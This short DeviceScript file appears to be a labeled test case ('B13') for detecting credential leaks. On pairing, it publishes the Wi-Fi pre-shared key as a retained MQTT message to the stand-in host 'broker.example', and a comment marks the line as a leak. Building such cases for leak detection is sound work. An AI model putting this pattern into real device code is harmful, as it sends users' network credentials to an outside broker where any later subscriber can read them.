// B13: in an MQTT message that the broker keeps for whoever subscribes later.
import { startMQTTClient } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.publish("home/state", Buffer.from(psk), 0, true); // leak: wifi.psk
});
